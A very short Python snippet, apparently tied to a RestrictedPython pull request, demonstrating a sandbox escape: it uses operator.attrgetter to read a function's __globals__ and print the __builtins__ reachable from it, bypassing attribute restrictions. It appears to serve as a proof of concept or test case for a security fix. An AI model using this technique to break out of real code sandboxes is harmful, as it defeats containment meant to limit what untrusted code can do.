# Source: https://github.com/zopefoundation/RestrictedPython/pull/330 (operator.attrgetter/methodcaller re-open the Formatter escape)
import operator
walk = operator.attrgetter("__globals__")
print(walk(get_weather)["__builtins__"])
